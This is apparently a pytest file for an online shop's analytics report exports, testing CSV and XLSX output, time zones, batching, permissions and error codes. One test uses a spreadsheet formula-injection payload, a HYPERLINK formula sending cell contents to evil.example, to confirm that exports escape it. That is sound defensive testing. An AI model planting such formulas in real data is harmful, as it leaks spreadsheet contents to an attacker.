"""Reports as files over HTTP."""

import csv
import io
import zipfile
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx2
import pytest
from starlette.requests import ClientDisconnect

from api.routes.analytics.exports import FileResponse
from models.users import Role
from services.analytics.exports import saletables
from services.analytics.exports.exports import EXPORTERS, Export
from services.heavy import heavy_work
from tests.api.conftest import SignIn
from tests.factories.catalog import create_product
from tests.factories.sales import count_everything, make_sale, make_sold_line
from tests.services.analytics.exports.test_files import sheet

NOVEMBER = {"start": "2026-11-01", "end": "2026-12-01"}
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def path_of(report: str) -> str:
    return f"/api/v1/analytics/{report}/export"


def rows_of(answer: httpx2.Response) -> list[list[str]]:
    assert answer.status_code == 200, answer.text
    return list(csv.reader(io.StringIO(answer.content.decode(), newline="")))


class TestExportReport:
    async def test_csv_holds_the_rows_of_the_json(self, client: httpx2.AsyncClient, as_role: SignIn) -> None:
        headers = await as_role(Role.MANAGER)
        product = await create_product(name="Linen shirt", slug="linen-shirt")
        paid_at = datetime(2026, 11, 10, 12, tzinfo=UTC)
        await make_sale([make_sold_line(product, quantity=2, price=1990, tax=398)], paid_at=paid_at).store()
        await count_everything()

        answer = await client.get(path_of("products"), params=NOVEMBER, headers=headers)

        assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert answer.headers["Content-Disposition"] == 'attachment; filename="products_2026-11-01_2026-11-30.csv"'
        assert int(answer.headers["Content-Length"]) == len(answer.content)
        assert rows_of(answer) == [
            [
                "orders_count",
                "units_count",
                "gross (USD)",
                "discount (USD)",
                "tax (USD)",
                "total (USD)",
                "returned_units_count",
                "rank",
                "product_id",
                "name",
                "slug",
                "category",
            ],
            ["1", "2", "39.80", "0.00", "3.98", "43.78", "0", "1", str(product.id), "Linen shirt", "linen-shirt", ""],
        ]

    async def test_hostile_product_name_is_text_in_both_formats(self, client: httpx2.AsyncClient, as_role: SignIn) -> None:
        headers = await as_role(Role.MANAGER)
        name = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
        product = await create_product(name=name)
        await make_sale([make_sold_line(product)], paid_at=datetime(2026, 11, 10, tzinfo=UTC)).store()
        await count_everything()

        as_csv = rows_of(await client.get(path_of("products"), params=NOVEMBER, headers=headers))
        as_xlsx = await client.get(path_of("products"), params={**NOVEMBER, "format": "xlsx"}, headers=headers)

        assert as_csv[1][as_csv[0].index("name")] == "'" + name
        assert as_xlsx.headers["Content-Type"] == XLSX
        assert as_xlsx.headers["Content-Disposition"] == 'attachment; filename="products_2026-11-01_2026-11-30.xlsx"'
        assert ("inlineStr", name) in sheet(as_xlsx.content)[1]  # `sheet` refuses formulas

    async def test_series_has_a_row_per_bucket_and_period(self, client: httpx2.AsyncClient, as_role: SignIn) -> None:
        query = {"start": "2026-10-25", "end": "2026-10-26", "timezone": "Europe/Berlin", "compare": "previous"}

        rows = rows_of(await client.get(path_of("revenue"), params=query, headers=await as_role(Role.MANAGER)))

        starts = rows[0].index("starts_at")
        assert [(row[0], row[starts], row[starts + 1]) for row in rows[1:]] == [
            ("current", "2026-10-25T00:00:00+02:00", "2026-10-26T00:00:00+01:00"),
            ("previous", "2026-10-24T00:00:00+02:00", "2026-10-25T00:00:00+02:00"),
        ]

    async def test_sales_tell_period_comparison_and_change(self, client: httpx2.AsyncClient, as_role: SignIn) -> None:
        headers = await as_role(Role.MANAGER)
        product = await create_product()
        for day, pieces in ((10, 3), (20, 4)):
            paid_at = datetime(2026, 11, day, tzinfo=UTC)
            await make_sale([make_sold_line(product, quantity=pieces)], paid_at=paid_at).store()
        await count_everything()
        query = {"start": "2026-11-15", "end": "2026-11-25", "compare": "previous"}

        rows = rows_of(await client.get(path_of("sales"), params=query, headers=headers))

        assert [row[:4] for row in rows] == [
            ["period", "orders_count", "units_count", "gross (USD)"],
            ["current", "1", "4", "40.00"],
            ["previous", "1", "3", "30.00"],
            ["change (%)", "0", "33.33", "33.33"],
        ]

    @pytest.mark.parametrize("format", ["csv", "xlsx"])
    async def test_every_report_of_nothing_is_a_file(self, client: httpx2.AsyncClient, as_role: SignIn, format: str) -> None:
        headers = await as_role(Role.MANAGER)

        for report in EXPORTERS:
            answer = await client.get(path_of(report), params={**NOVEMBER, "format": format}, headers=headers)
            assert answer.status_code == 200, answer.text
            if format == "csv":
                assert len(answer.content.splitlines()) >= 1
            else:
                with zipfile.ZipFile(io.BytesIO(answer.content)) as book:
                    assert book.testzip() is None

    async def test_unknown_report_is_a_404(self, client: httpx2.AsyncClient, as_role: SignIn) -> None:
        answer = await client.get(path_of("salaries"), headers=await as_role(Role.MANAGER))

        assert (answer.status_code, answer.json()["code"]) == (404, "report_not_found")

    async def test_who_may_not_see_reports_is_refused(self, client: httpx2.AsyncClient, as_role: SignIn) -> None:
        assert (await client.get(path_of("orders"))).status_code == 401
        assert (await client.get(path_of("orders"), headers=await as_role(Role.EDITOR))).status_code == 403

    @pytest.mark.parametrize(
        ("query", "code"),
        [
            ({"format": "pdf"}, "malformed_input"),
            ({"start": "2026-11-02", "end": "2026-11-01"}, "invalid_period"),
            ({"timezone": "Nowhere"}, "unknown_time_zone"),
        ],
    )
    async def test_impossible_question_is_a_422(
        self, client: httpx2.AsyncClient, as_role: SignIn, query: dict[str, str], code: str
    ) -> None:
        answer = await client.get(path_of("sales"), params=query, headers=await as_role(Role.MANAGER))

        assert (answer.status_code, answer.json()["code"]) == (422, code)


class TestOrders:
    async def test_every_order_of_the_period_once_whatever_became_of_it(
        self, client: httpx2.AsyncClient, as_role: SignIn, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """Also where more of them were placed at one instant than are read at a time."""
        monkeypatch.setattr(saletables, "BATCH", 3)
        headers = await as_role(Role.MANAGER)
        product = await create_product()
        instant = datetime(2026, 11, 10, 12, tzinfo=UTC)
        first, last = datetime(2026, 11, 1, tzinfo=UTC), datetime(2026, 11, 30, 23, 59, 59, 999_000, tzinfo=UTC)
        moments = [first, *[instant] * 8, instant + timedelta(milliseconds=1), last]
        outside = [first - timedelta(milliseconds=1), last + timedelta(milliseconds=1)]
        wanted = []
        for placed_at in [*moments, *outside]:
            order = await make_sale([make_sold_line(product)], paid_at=None, placed_at=placed_at).store()
            wanted += [order.number] if placed_at in moments else []

        rows = rows_of(await client.get(path_of("orders"), params=NOVEMBER, headers=headers))

        told = [row[0] for row in rows[1:]]
        assert sorted(told) == sorted(wanted)
        assert [row[1] for row in rows[1:]] == sorted(row[1] for row in rows[1:])

    async def test_row_by_hand(self, client: httpx2.AsyncClient, as_role: SignIn) -> None:
        headers = await as_role(Role.MANAGER)
        product = await create_product()
        paid_at = datetime(2026, 11, 10, 12, 5, tzinfo=UTC)
        line = make_sold_line(product, quantity=2, price=1000, discount=200, tax=180)
        order = await make_sale([line], paid_at=paid_at, shipping=500, source="@api").store()

        rows = rows_of(await client.get(path_of("orders"), params={**NOVEMBER, "timezone": "Europe/Berlin"}, headers=headers))

        assert dict(zip(*rows, strict=True)) == {
            "number": order.number,
            "placed_at": "2026-11-10T13:00:00+01:00",
            "paid_at": "2026-11-10T13:05:00+01:00",
            "cancelled_at": "",
            "status": "confirmed",
            "payment_status": "pending",
            "payment_method": "card",
            "source": "'@api",
            "customer_id": "",
            "items_count": "2",
            "subtotal (USD)": "20.00",
            "discount (USD)": "2.00",
            "tax (USD)": "1.80",
            "shipping (USD)": "5.00",
            "total (USD)": "24.80",
            "refunded (USD)": "0.00",
        }

    async def test_orders_of_another_currency_are_left_to_its_report(self, client: httpx2.AsyncClient, as_role: SignIn) -> None:
        headers = await as_role(Role.MANAGER)
        product = await create_product()
        placed_at = datetime(2026, 11, 10, tzinfo=UTC)
        await make_sale([make_sold_line(product, currency="JPY")], paid_at=None, placed_at=placed_at).store()

        in_usd = rows_of(await client.get(path_of("orders"), params=NOVEMBER, headers=headers))
        in_yen = rows_of(await client.get(path_of("orders"), params={**NOVEMBER, "currency": "JPY"}, headers=headers))

        assert len(in_usd) == 1
        assert dict(zip(*in_yen, strict=True))["total (JPY)"] == "1000"


class TestGate:
    async def test_the_place_is_free_again_after_an_export(self, client: httpx2.AsyncClient, as_role: SignIn) -> None:
        headers = await as_role(Role.MANAGER)
        for _ in range(3):  # one more than there are places
            assert (await client.get(path_of("orders"), params=NOVEMBER, headers=headers)).status_code == 200

        async with heavy_work(), heavy_work():
            pass


class TestFileResponse:
    async def test_file_is_closed_when_the_reader_leaves(self) -> None:
        file = io.BytesIO(b"head\r\n")
        export = Export("orders.csv", "text/csv", 6, file)

        async def receive() -> Any:
            return {"type": "http.disconnect"}

        async def send(message: Any) -> None:
            raise OSError

        with pytest.raises(ClientDisconnect):
            await FileResponse(export)({"type": "http", "asgi": {"spec_version": "2.4"}}, receive, send)

        assert file.closed
